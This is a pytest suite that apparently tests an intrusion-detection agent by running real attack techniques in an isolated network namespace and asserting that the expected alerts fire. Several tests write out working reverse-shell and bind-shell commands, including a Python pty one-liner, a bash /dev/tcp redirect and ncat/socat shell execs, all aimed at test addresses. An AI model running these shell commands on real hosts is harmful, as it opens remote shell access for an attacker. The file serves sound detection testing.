"""Attack techniques performed for real against the real daemon (issue 17), one per test.

One ``vedette run`` for the module (process collector with kernel audit exec facts, sockets
sampled every second, every shipped rule). Network parts run inside a network namespace the
test creates, with 198.18.0.0/15 addresses on its loopback and no route out; listeners the
sockets collector must see are bound to the host's 127.0.0.1 only. Every process is stopped by
PID and every file, user and namespace is removed in ``finally`` blocks, also on failure.
"""

from __future__ import annotations

import contextlib
import os
import secrets
import shutil
import signal
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import yaml

sys.path.insert(0, str(Path(__file__).resolve().parents[1]))
from conftest import REPO, AgentProcess, base_config, deep_merge, free_port

pytestmark = pytest.mark.skipif(os.geteuid() != 0, reason="needs root (namespaces, audit)")
ATTACKER, VICTIM = "198.18.0.1", "198.18.0.2"
LOW = 2  # event.severity of a low alert (agent/alerts.py LEVELS)


def _rule_ids() -> dict[str, str]:
    ids: dict[str, str] = {}
    for path in (REPO / "rules").rglob("*.yml"):
        for doc in yaml.safe_load_all(path.read_text()):
            if isinstance(doc, dict) and doc.get("name") and doc.get("id"):
                ids[doc["name"]] = doc["id"]
    return ids


RULE_IDS = _rule_ids()


@pytest.fixture(scope="module")
def agent(tmp_path_factory: pytest.TempPathFactory) -> Iterator[AgentProcess]:
    workdir = tmp_path_factory.mktemp("attacks")
    port = free_port()
    config = deep_merge(base_config(workdir, port), {
        "process": {"enabled": True, "fallback_polling": False, "cpu_sampling": False},
        "sockets": {"enabled": True, "interval_seconds": 1.0, "include_loopback": True},
        "fim": {"enabled": False}, "auth_logs": {"enabled": False},
        "web_logs": {"enabled": False}, "auditd": {"enabled": False},
        "kernel_modules": {"enabled": False},
        "detection": {"rule_paths": [str(REPO / "rules")]},
    })
    proc = AgentProcess(workdir, config, port).start()
    try:
        proc.wait_for(lambda: proc.sample("vedette_process_exec_source", {"source": "audit"})
                      == 1.0, 15, "audit exec facts active")
        yield proc
    finally:
        with contextlib.suppress(Exception):
            proc.stop()
        proc.kill()


@pytest.fixture
def netns() -> Iterator[str]:
    if shutil.which("ip") is None:
        pytest.skip("needs iproute2")
    name = f"vdt-atk-{os.getpid() % 100000}{secrets.token_hex(2)}"
    subprocess.run(["ip", "netns", "add", name], check=True, timeout=20)
    try:
        for cmd in (["link", "set", "lo", "up"],
                    ["addr", "add", f"{ATTACKER}/32", "dev", "lo"],
                    ["addr", "add", f"{VICTIM}/32", "dev", "lo"]):
            subprocess.run(["ip", "-n", name, *cmd], check=True, timeout=20)
        yield name
    finally:
        subprocess.run(["ip", "netns", "del", name], check=False, timeout=20)


class Procs:
    """Processes started by a test, each in its own process group, stopped by PID."""

    def __init__(self) -> None:
        self.started: list[subprocess.Popen[bytes]] = []

    def spawn(self, *argv: str, ns: str | None = None, **kw: Any) -> subprocess.Popen[bytes]:
        cmd = ["ip", "netns", "exec", ns, *argv] if ns else list(argv)
        kw.setdefault("stdin", subprocess.DEVNULL)
        kw.setdefault("stdout", subprocess.DEVNULL)
        kw.setdefault("stderr", subprocess.DEVNULL)
        proc = subprocess.Popen(cmd, start_new_session=True, **kw)
        self.started.append(proc)
        return proc

    def stop(self) -> None:
        for proc in reversed(self.started):
            if proc.poll() is None:
                with contextlib.suppress(ProcessLookupError):
                    os.killpg(proc.pid, signal.SIGKILL)
            with contextlib.suppress(subprocess.TimeoutExpired):
                proc.wait(5)


@pytest.fixture
def procs() -> Iterator[Procs]:
    p = Procs()
    try:
        yield p
    finally:
        p.stop()


def alerts_of(agent: AgentProcess, name: str, since: float = 0.0) -> list[dict[str, Any]]:
    out = []
    for a in agent.alerts():
        if a.get("rule", {}).get("id") != RULE_IDS[name]:
            continue
        if _first_seen(a) >= since:
            out.append(a)
    return out


def _first_seen(alert: dict[str, Any]) -> float:
    from datetime import datetime  # noqa: PLC0415

    raw = alert.get("event", {}).get("start") or alert.get("@timestamp", "")
    try:
        return datetime.fromisoformat(raw.replace("Z", "+00:00")).timestamp()
    except ValueError:
        return 0.0


def wait_alert(agent: AgentProcess, name: str, since: float, timeout: float = 15.0) -> None:
    agent.wait_for(lambda: bool(alerts_of(agent, name, since)), timeout, f"alert {name}")


def wait_relay(agent: AgentProcess, relay_pid: int, since: float) -> None:
    """The shell_socket_relay alert of the shell whose parent is ``relay_pid``."""
    agent.wait_for(lambda: any(a["vedette"]["group"].get("process.parent.pid") == relay_pid
                               for a in alerts_of(agent, "shell_socket_relay", since)),
                   15, f"shell_socket_relay for parent {relay_pid}")


def wait_port(ns: str | None, host: str, port: int, timeout: float = 10.0) -> None:
    deadline = time.monotonic() + timeout
    cmd = ["ss", "-Hltn", f"src {host}:{port}"]
    while time.monotonic() < deadline:
        out = subprocess.run(["ip", "netns", "exec", ns, *cmd] if ns else cmd,
                             capture_output=True, text=True, timeout=10).stdout
        if out.strip():
            return
        time.sleep(0.05)
    raise AssertionError(f"nothing listens on {host}:{port}")


def need(*tools: str) -> None:
    missing = [t for t in tools if shutil.which(t) is None]
    if missing:
        pytest.skip(f"missing tools: {missing}")


def noisy_alerts(agent: AgentProcess, since: float) -> list[str]:
    """Alerts above ``low`` since a time (benign counterparts must raise none)."""
    return [a["rule"]["name"] for a in agent.alerts() if _first_seen(a) >= since
            and a.get("event", {}).get("severity", 0) > LOW]


# -- shells ---------------------------------------------------------------------------------

def test_python_pty_reverse_shell(agent: AgentProcess, netns: str, procs: Procs) -> None:
    need("ncat")
    t0 = time.time()
    port = 4000 + secrets.randbelow(2000)
    listener = procs.spawn("ncat", "-n", "-l", ATTACKER, str(port), ns=netns,
                           stdin=subprocess.PIPE)
    wait_port(netns, ATTACKER, port)
    code = (f"import socket,os,pty;s=socket.socket();s.connect(({ATTACKER!r},{port}));"
            "[os.dup2(s.fileno(),f) for f in(0,1,2)];pty.spawn('/bin/sh')")
    victim = procs.spawn("python3", "-c", code, ns=netns)
    wait_relay(agent, victim.pid, t0)
    wait_alert(agent, "interpreter_reverse_shell", t0)
    assert listener.stdin is not None
    listener.stdin.close()


def test_ncat_exec_bind_shell(agent: AgentProcess, netns: str, procs: Procs) -> None:
    need("ncat")
    t0 = time.time()
    port = 4000 + secrets.randbelow(2000)
    server = procs.spawn("ncat", "-n", "-l", VICTIM, str(port), "-e", "/bin/sh", ns=netns)
    wait_port(netns, VICTIM, port)
    client = procs.spawn("ncat", "-n", VICTIM, str(port), ns=netns, stdin=subprocess.PIPE)
    assert client.stdin is not None
    client.stdin.write(b"id\n")
    client.stdin.flush()
    wait_relay(agent, server.pid, t0)


def test_socat_exec_bind_shell(agent: AgentProcess, netns: str, procs: Procs) -> None:
    need("socat", "ncat")
    t0 = time.time()
    port = 4000 + secrets.randbelow(2000)
    server = procs.spawn("socat", f"TCP-LISTEN:{port},bind={VICTIM},reuseaddr", "EXEC:/bin/sh",
                         ns=netns)
    wait_port(netns, VICTIM, port)
    client = procs.spawn("ncat", "-n", VICTIM, str(port), ns=netns, stdin=subprocess.PIPE)
    assert client.stdin is not None
    client.stdin.write(b"id\n")
    client.stdin.flush()
    wait_relay(agent, server.pid, t0)


def test_one_reverse_shell_with_children_is_one_alert(agent: AgentProcess, netns: str,
                                                       procs: Procs) -> None:
    need("ncat", "bash")
    t0 = time.time()
    port = 4000 + secrets.randbelow(2000)
    listener = procs.spawn("ncat", "-n", "-l", ATTACKER, str(port), ns=netns,
                           stdin=subprocess.PIPE)
    wait_port(netns, ATTACKER, port)
    procs.spawn("bash", "-c", f"bash -i >& /dev/tcp/{ATTACKER}/{port} 0>&1", ns=netns)
    assert listener.stdin is not None
    listener.stdin.write(b"sh -c 'id'; sh -c 'uname -a'; sh -c 'hostname'\n")
    listener.stdin.flush()
    wait_alert(agent, "reverse_shell_socket_stdio", t0)
    time.sleep(3)  # the children's execs arrive; they must fold into the same alert
    shells = alerts_of(agent, "reverse_shell_socket_stdio", t0)
    assert len({a["event"]["id"] for a in shells}) == 1, [a["vedette"]["group"] for a in shells]


def test_plain_ncat_listener_is_no_bind_shell_but_one_with_exec_is(
        agent: AgentProcess, procs: Procs) -> None:
    need("ncat")
    t0 = time.time()
    plain, with_exec = free_port(), free_port()
    procs.spawn("ncat", "-n", "-lk", "127.0.0.1", str(plain))
    procs.spawn("ncat", "-n", "-lk", "127.0.0.1", str(with_exec), "-e", "/bin/cat")
    wait_port(None, "127.0.0.1", plain)
    wait_port(None, "127.0.0.1", with_exec)
    wait_alert(agent, "shell_listening", t0)
    wait_port(None, "127.0.0.1", plain)
    time.sleep(2)  # two more socket samples
    ports = {a["vedette"]["group"].get("server.port")
             for a in alerts_of(agent, "shell_listening", t0)}
    assert with_exec in ports and plain not in ports, ports
